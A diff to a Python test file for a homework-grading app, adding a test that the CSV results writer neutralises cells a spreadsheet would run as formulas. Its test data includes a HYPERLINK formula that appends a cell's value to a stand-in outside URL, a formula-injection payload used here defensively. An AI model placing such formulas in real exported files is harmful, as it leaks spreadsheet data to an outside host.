@@ -2,13 +2,14 @@
 broken rows reported per row, a 1,000-row file, and the command."""
 
 import csv
+import io
 import json
 import random
 
 import pytest
 
 from agentic_jax.apps import grade
-from agentic_jax.apps.homework import parse_homework, read_homework
+from agentic_jax.apps.homework import parse_homework, read_homework, write_results_csv
 from agentic_jax.apps.sandboxes import grading_sandbox
 from agentic_jax.data import generate_curriculum
 
@@ -79,6 +80,16 @@ def test_a_deeply_nested_jsonl_line_is_one_bad_row():
                                       + "}", good]), "jsonl")
     assert [bool(r.error) for r in rows] == [False, True, True, False]
     assert "nested" in rows[1].error and "nested 51 levels" in rows[2].error
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text():
+    answers = ['=HYPERLINK("http://x.example/?"&A1, "see")', "@SUM(A1:A9)", "+1+2", "-3+2",
+               "\t=1", "\r=1", "-", "-3", "+2.5", "-1.5e3", "3", "x = -3"]
+    out = io.StringIO()
+    write_results_csv([{"row": i, "answer": a} for i, a in enumerate(answers)], out)
+    cells = [r["answer"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert cells[:7] == ["'" + a for a in answers[:7]]
+    assert cells[7:] == answers[7:]  # numbers stay numbers; text not starting a formula as is
 
 
 def _homework_file(path, n=1000):
